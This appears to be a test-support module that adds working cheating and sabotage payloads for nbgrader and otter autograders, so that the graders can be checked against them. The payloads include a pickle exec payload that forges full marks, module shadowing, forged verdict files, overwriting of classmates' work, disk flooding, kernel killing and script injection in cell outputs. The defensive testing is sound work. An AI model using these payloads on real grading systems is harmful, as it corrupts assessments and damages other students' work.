@@ -1,0 +1,180 @@
+"""Attacks on the nbgrader and otter doors (issue 12): the notebook cells a cheating or sabotaging
+student adds, and a small class to grade them in beside honest classmates.
+
+Every attack is one added notebook cell, written as a real attacker would (it imports what the
+grading machine has installed: `reference`, `autograder`, the toy declaration). The doors must grade
+each attacker from the pristine files submitted, and no classmate's score may move.
+"""
+from __future__ import annotations
+
+import hashlib
+import json
+import sys
+from pathlib import Path
+
+import nbformat
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "doors"))
+
+from door_helpers import BIN, COURSE_CONFIG, REPO, TESTS_RELEASE, run, sample_class  # noqa: E402
+import release_toy as toy  # noqa: E402  (door_helpers puts tests/release on sys.path)
+
+from autograder import release, samples  # noqa: E402
+
+# (a) the reference, flattened, over the student's module in the folder being graded.
+COPY_REFERENCE = '''\
+import pathlib, reference.collectives
+from autograder.stubgen import flat_imports
+pathlib.Path("collectives.py").write_text(flat_imports(pathlib.Path(reference.collectives.__file__).read_text()))
+'''
+
+# (b) the keys, computed by the declaration the grading machine has installed, into the answer
+# cells of the notebook file on disk (the file the grader reads answers from).
+WRITE_KEYS = '''\
+import json, pathlib, release_toy
+keys = {q.id: q.key for q in release_toy.make().questions}
+for path in pathlib.Path(".").glob("*.ipynb"):
+    nb = json.loads(path.read_text())
+    for cell in nb["cells"]:
+        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        for qid, key in keys.items():
+            if src.lstrip().startswith(qid + " ="):
+                cell["source"] = f"{qid} = {key!r}"
+    path.write_text(json.dumps(nb))
+'''
+
+# (c) every verdict file the folder holds rewritten to full marks.
+FORGE_VERDICTS = '''\
+import json, pathlib
+for path in pathlib.Path(".").glob(".*.json"):
+    data = json.loads(path.read_text())
+    for test in data.get("tests", []):
+        test["score"] = test.get("max_score", 0)
+        test["output"] = "forged"
+    path.write_text(json.dumps(data))
+'''
+
+# (d) otter unpickles what the kernel dumps: a payload that, once loaded in otter's process, makes
+# every results.json full marks (and the plugin's override a no-op).
+PICKLE_PAYLOAD = '''\
+import pickle
+CODE = """
+import otter.test_files as tf
+def full(self, ag_config, _orig=tf.GradingResults.to_gradescope_dict):
+    out = _orig(self, ag_config)
+    for t in out["tests"]:
+        if "max_score" in t:
+            t["score"] = t["max_score"]
+    out["score"] = sum(t.get("max_score", 0) for t in out["tests"])
+    return out
+tf.GradingResults.to_gradescope_dict = full
+try:
+    import autograder.doors.otter as door
+    door.EngineOverride.after_grading = lambda self, results: None
+except Exception:
+    pass
+"""
+class Payload:
+    def __reduce__(self):
+        return (exec, (CODE,))
+_dump = pickle.dump
+def dump(obj, f, *args, **kwargs):
+    try:
+        obj._payload = Payload()
+    except Exception:
+        pass
+    return _dump(obj, f, *args, **kwargs)
+pickle.dump = dump
+'''
+
+# (f) no cell at all: a submitted `otter/` package in the folder the kernel runs in shadows the
+# real otter (the kernel's cwd is first on sys.path), loads the real one and plants (d)'s payload.
+SHADOW_OTTER = {"otter/__init__.py": '''\
+import os, sys
+sys.path[:] = [p for p in sys.path if p not in ("", ".", os.getcwd())]
+del sys.modules["otter"]
+import otter
+''' + PICKLE_PAYLOAD}
+
+# (e) every classmate's submitted module replaced by a constant (nbgrader: the kernel runs in
+# autograded/<student>/<id>/, so the course root is three levels up).
+OVERWRITE_CLASSMATES = '''\
+import pathlib
+course = pathlib.Path.cwd().resolve().parents[2]
+for module in course.glob("submitted/*/*/collectives.py"):
+    if "aaa_classmates" not in module.parts:
+        module.write_text("def ring_allreduce_time(*args, **kwargs):\\n    return 0.0\\n")
+'''
+
+# Sabotage: each stops, floods or scribbles outside; none may cost a classmate anything.
+INFINITE_LOOP = "while True:\n    pass\n"
+KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
+EXIT_KERNEL = "import os\nos._exit(0)\n"
+WRITE_OUTSIDE = '''\
+import pathlib
+course = pathlib.Path.cwd().resolve().parents[2]
+(course / "PWNED").write_text("written by a student's kernel")
+with open(course / "big.bin", "wb") as f:
+    f.truncate(64 << 30)
+    f.write(b"x" * (8 << 20))
+for nb in course.glob("submitted/*/*/*.ipynb"):
+    nb.write_text("not a notebook")
+'''
+
+
+def add_cell(notebook: Path, source: str, outputs: list | None = None) -> None:
+    """Append a code cell (with the outputs the student saved) to a notebook on disk."""
+    nb = nbformat.read(notebook, as_version=4)
+    cell = nbformat.v4.new_code_cell(source)
+    cell.outputs = outputs or []
+    nb.cells.append(cell)
+    nbformat.write(nb, notebook)
+
+
+def honest_class() -> dict[str, tuple[str | None, dict]]:
+    """The honest classmates: ada (correct, right answer) and bob (buggy, wrong answer)."""
+    shipped = sample_class()
+    return {"ada": shipped["ada"], "bob": shipped["bob"]}
+
+
+def make_course(root: Path, attackers: dict[str, str],
+                attacker_files: dict[str, dict[str, str]] | None = None) -> tuple[object, dict[str, Path]]:
+    """A toy course root with release/ generated and the class submitted: the honest classmates
+    plus one untouched stub per attacker whose notebook carries the attack cell (an empty cell
+    adds none) and whose folder holds the attacker's extra files.
+    Returns (assignment, student -> submitted folder)."""
+    assignment = toy.make()
+    release.build_source(assignment, root, toy.PROPERTIES_PATH)
+    (root / "nbgrader_config.py").write_text(COURSE_CONFIG.format(
+        tests_release=str(TESTS_RELEASE), config=str(REPO / "nbgrader_config.py"), toy_id=assignment.id))
+    run([str(BIN / "nbgrader"), "generate_assignment", assignment.id, "--force"], root)
+    class_ = {**honest_class(), **{name: (None, {}) for name in attackers}}
+    folders = {}
+    for student, (module, answers) in class_.items():
+        sample = root / "samples" / student
+        sample.mkdir(parents=True)
+        if module is not None:
+            (sample / "collectives.py").write_text(module)
+        (sample / "answers.json").write_text(json.dumps(answers))
+        folders[student] = samples.materialise(
+            assignment.id, student, root / "submitted" / student / assignment.id, assignment=assignment,
+            release_dir=root / "release" / assignment.id, samples_dir=root / "samples")
+    for student, files in (attacker_files or {}).items():
+        for relative, text in files.items():
+            (folders[student] / relative).parent.mkdir(parents=True, exist_ok=True)
+            (folders[student] / relative).write_text(text)
+    for student, cell in attackers.items():
+        if not cell:
+            continue
+        add_cell(folders[student] / f"{assignment.id}.ipynb", cell,
+                 [nbformat.v4.new_output("stream", name="stdout", text=f"{student} saved this output\n"),
+                  nbformat.v4.new_output("display_data", data={
+                      "text/html": "<script>fetch('/formgrader/api/grade')</script>",
+                      "application/javascript": "alert(document.cookie)", "text/plain": "<IPython.HTML>"})])
+    return assignment, folders
+
+
+def digest(folder: Path) -> dict[str, str]:
+    """relative path -> sha256 of every regular file under folder."""
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}
